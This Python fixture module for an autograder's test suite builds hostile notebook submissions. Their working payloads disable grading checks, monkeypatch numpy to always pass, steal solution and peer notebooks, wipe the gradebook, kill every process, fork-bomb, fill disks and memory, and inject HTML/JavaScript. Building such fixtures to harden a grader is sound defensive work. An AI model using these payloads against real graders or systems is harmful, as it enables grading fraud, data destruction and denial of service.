"""Hostile submissions: what a student could try against the grader.

Each sample is chapter 1 (English) handed in with one attack. Most leave
every answer as the release's stub (``raise NotImplementedError()``), so
any point they get was stolen; the others are honest work with something
that must not cost marks (a copy-pasted answer cell, a foreign schema
version) or must be contained (a memory hog, 50 MB of output, HTML and
JavaScript output). tests/test_autograde.py asserts each one's exact
score, that no file outside the submission's scratch folder changed and
that no process they started outlives the run.
"""

import copy

#: Marks the processes the hostile samples start (tests look for it).
MARKER = "rnn-course-hostile-marker"

#: Where the course might be, as an attacker who read the repository
#: would look for it: up from the working folder and from the package.
FIND_COURSE = '''import glob, os
def course_roots():
    roots = set()
    places = [os.getcwd()]
    try:
        import rnn_course
        places.append(os.path.dirname(rnn_course.__file__))
    except Exception:
        pass
    for place in places:
        path = os.path.abspath(place)
        while True:
            roots.add(path)
            if path == "/":
                break
            path = os.path.dirname(path)
    return sorted(roots)
'''

#: Every test cell skipped or allowed to raise, by metadata alone.
TAGS = ["skip-execution", "raises-exception"]

CUSTOM_EXC = '''ip = get_ipython()

def swallow(shell, etype, evalue, tb, tb_offset=None):
    shell.last_execution_succeeded = True
    return []

ip.set_custom_exc((BaseException,), swallow)

import ast

class TryEverything(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=None, name=None,
                                    body=[ast.Pass()])
        body = [ast.Try(body=node.body, handlers=[handler], orelse=[],
                        finalbody=[])]
        return ast.fix_missing_locations(ast.Module(body=body,
                                                    type_ignores=[]))

ip.ast_transformers.append(TryEverything())
'''

FAKE_CHECKS = '''import sys, types

class Anything(types.ModuleType):
    def __getattr__(self, name):
        return lambda *args, **kwargs: None

sys.modules["hidden_checks"] = Anything("hidden_checks")
sys.modules["hidden_checks.ch01"] = Anything("hidden_checks.ch01")
sys.modules["hidden_checks._common"] = Anything("hidden_checks._common")
try:
    import hidden_checks.ch01 as real
    for name in dir(real):
        if name.startswith("check_"):
            setattr(real, name, lambda *args, **kwargs: None)
except Exception:
    pass
'''

MONKEYPATCH = '''import numpy as np
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.linalg.norm = lambda *args, **kwargs: 0.0
np.isfinite = lambda x, *args, **kwargs: np.ones(np.shape(x), bool)
import rnn_course.gradcheck
rnn_course.gradcheck.relative_error = lambda *args, **kwargs: 0.0
'''

STEAL_SOLUTIONS = FIND_COURSE + '''import json
stolen = 0
for root in course_roots():
    pattern = os.path.join(root, "solutions", "01-*-en", "*.ipynb")
    for path in glob.glob(pattern):
        for cell in json.load(open(path))["cells"]:
            meta = cell["metadata"].get("nbgrader", {})
            if meta.get("solution"):
                exec("".join(cell["source"]))
                stolen += 1
print("stolen answers:", stolen)
'''

COPY_PEER = FIND_COURSE + '''import json
copied = 0
for root in course_roots():
    for folder in ("submitted", "autograded"):
        for base in (root, os.path.join(root, "autograder")):
            pattern = os.path.join(base, folder, "correct", "01-*-en",
                                   "*.ipynb")
            for path in glob.glob(pattern):
                for cell in json.load(open(path))["cells"]:
                    meta = cell["metadata"].get("nbgrader", {})
                    if meta.get("solution"):
                        exec("".join(cell["source"]))
                        copied += 1
print("copied answers:", copied)
'''

TAMPER = FIND_COURSE + '''changed = 0
targets = []
for root in course_roots():
    for base in (root, os.path.join(root, "autograder")):
        targets += [(p, "\\ncheck_softmax = lambda *a, **k: None\\n")
                    for p in glob.glob(os.path.join(base, "hidden_checks",
                                                    "*.py"))]
        targets += [(p, "{}") for p in glob.glob(os.path.join(
            base, "submitted", "*", "*", "*.ipynb"))]
        targets += [(p, "") for p in glob.glob(os.path.join(
            base, "gradebook.db"))]
for path, text in targets:
    try:
        with open(path, "a" if path.endswith(".py") else "w") as f:
            f.write(text)
        changed += 1
    except OSError:
        pass
print("files changed:", changed)
'''

KILL_PARENT = '''import os, signal
for pid in (os.getppid(), os.getpgid(0), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        try:
            os.kill(int(name), signal.SIGKILL)
        except OSError:
            pass
'''

DETACHED = f'''import subprocess, sys
later = """
import glob, os, time
time.sleep(20)  # {MARKER}
for path in glob.glob("/*/*/autograder/gradebook.db"):
    open(path, "w").write("")
"""
subprocess.Popen([sys.executable, "-c", later], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
if __import__("os").fork() == 0:
    __import__("os").setsid()
    __import__("time").sleep(3600)  # {MARKER}
'''

MEMORY_HOG = '''    # Allocates 6 GiB before doing the work.
    hog = np.ones(6 * 2**30 // 8)
'''

FIFO_OUTBOX = '''    # Leaves a FIFO where the grader reads this call's error file.
    import os
    import _course_grader
    inbox = _course_grader._settings["inbox"]
    outbox = _course_grader._settings["outbox"]
    number = max(int(name.split("-")[0]) for name in os.listdir(inbox)
                 if name.endswith("-args.json"))
    os.mkfifo(os.path.join(outbox, f"{number}-error.json"))
'''

IGNORE_INTERRUPT = '''    # Ignores the grader's interrupt and never returns.
    import signal
    import time
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        time.sleep(1)
'''

FILL_OUTBOX = '''    # Fills the folder where the grader reads results, 1 MiB at a time.
    import os
    import _course_grader
    outbox = _course_grader._settings["outbox"]
    for number in range(100_000):
        with open(os.path.join(outbox, f"junk-{number}"), "wb") as file:
            file.write(b"x" * 2**20)
'''

FILL = '''def fill(path, gib=3):
    """Write up to ``gib`` GiB into ``path``; how many MiB got there."""
    written = 0
    try:
        with open(path, "wb") as file:
            for _ in range(gib * 1024):
                file.write(b"x" * 2**20)
                written += 1
    except OSError as error:
        print(path, "full after", written, "MiB:", error.strerror)
    return written
'''
FILL_TMPFS = FILL + '''fill("/tmp/fill.bin")
fill("/dev/shm/fill.bin")
fill("/dev/fill.bin")
'''
FILL_WORK = FILL + '''fill("fill.bin")
'''

FORK_STORM = f'''import os
for _ in range(32):
    if os.fork() == 0:
        while True:  # {MARKER}
            pass
'''

FLOOD = 'print("x" * 50_000_000)\n'

SCRIPT = ('<script>document.title = "pwned-{marker}"</script>'
          '<b onmouseover="alert(1)">bold</b>').format(marker=MARKER)
HTML_OUTPUT = f'''from IPython.display import HTML, Javascript, display
display(HTML({SCRIPT!r}))
display(Javascript("document.title = 'pwned-{MARKER}'"))
'''


def _grade_id(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _before_body(notebook, grade_id, source):
    """Put ``source`` first in the body of the answer ``grade_id``."""
    for cell in notebook["cells"]:
        if _grade_id(cell) == grade_id:
            lines = cell["source"].splitlines(keepends=True)
            body = next(i for i, line in enumerate(lines)
                        if line.strip().startswith("return")
                        or line.startswith("    #"))
            lines.insert(body, source)
            cell["source"] = "".join(lines)
    return notebook


def _insert_after_imports(notebook, source, kind="code"):
    """Put a cell of the student's right after the release's imports."""
    cell = {"cell_type": kind, "metadata": {}, "source": source}
    if kind == "code":
        cell.update(outputs=[], execution_count=None)
    cells = notebook["cells"]
    at = next(i for i, c in enumerate(cells)
              if c["cell_type"] == "code") + 1
    cells.insert(at, cell)
    return notebook


def samples(released, filled, assignment):
    """{(student, assignment): notebook} of every hostile sample.

    Parameters
    ----------
    released : callable
        ``released()`` -> the released notebook (answers are stubs).
    filled : callable
        ``filled()`` -> the released notebook with every answer solved.
    assignment : str
        The assignment they are handed in for (chapter 1, English).
    """
    found = {}

    tagged = released()
    for cell in tagged["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
            cell["metadata"]["tags"] = list(TAGS)
            cell["metadata"]["nbgrader"]["grade"] = False
            cell["metadata"]["nbgrader"]["locked"] = False
    found["hostile-tags"] = tagged

    for student, attack in (
        ("hostile-custom-exc", CUSTOM_EXC),
        ("hostile-fake-checks", FAKE_CHECKS),
        ("hostile-monkeypatch", MONKEYPATCH),
        ("hostile-steal-solutions", STEAL_SOLUTIONS),
        ("hostile-copy-peer", COPY_PEER),
        ("hostile-tamper", TAMPER),
        ("hostile-kill-parent", KILL_PARENT),
        ("hostile-detached", DETACHED),
    ):
        found[student] = _insert_after_imports(released(), attack)

    found["hostile-memory-hog"] = _before_body(filled(), "softmax",
                                               MEMORY_HOG)
    # Slow denial of service: each costs softmax (1 point) and seconds.
    found["hostile-fifo-outbox"] = _before_body(filled(), "softmax",
                                                FIFO_OUTBOX)
    found["hostile-ignore-interrupt"] = _before_body(
        filled(), "softmax", IGNORE_INTERRUPT)
    # Sandbox limits: honest work beside the attack keeps its marks.
    found["hostile-tmpfs-fill"] = _insert_after_imports(filled(),
                                                        FILL_TMPFS)
    found["hostile-scratch-fill"] = _before_body(
        _insert_after_imports(filled(), FILL_WORK), "softmax", FILL_OUTBOX)
    found["hostile-fork-storm"] = _insert_after_imports(released(),
                                                        FORK_STORM)

    found["hostile-flood"] = _insert_after_imports(filled(), FLOOD)
    html = _insert_after_imports(filled(), HTML_OUTPUT)
    found["hostile-html"] = _insert_after_imports(
        html, f"Look: {SCRIPT}\n", kind="markdown")

    pasted = filled()
    cells = pasted["cells"]
    at = next(i for i, c in enumerate(cells) if _grade_id(c) == "softmax")
    duplicate = copy.deepcopy(cells[at])
    stub = released()
    cells[at]["source"] = next(c["source"] for c in stub["cells"]
                               if _grade_id(c) == "softmax")
    cells.insert(at + 1, duplicate)  # the answer is in the pasted copy
    found["copy-pasted-cell"] = pasted

    foreign = filled()
    for cell in foreign["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader")
        if meta:
            meta["schema_version"] = 99
    found["foreign-schema"] = foreign

    return {(student, assignment): nb for student, nb in found.items()}
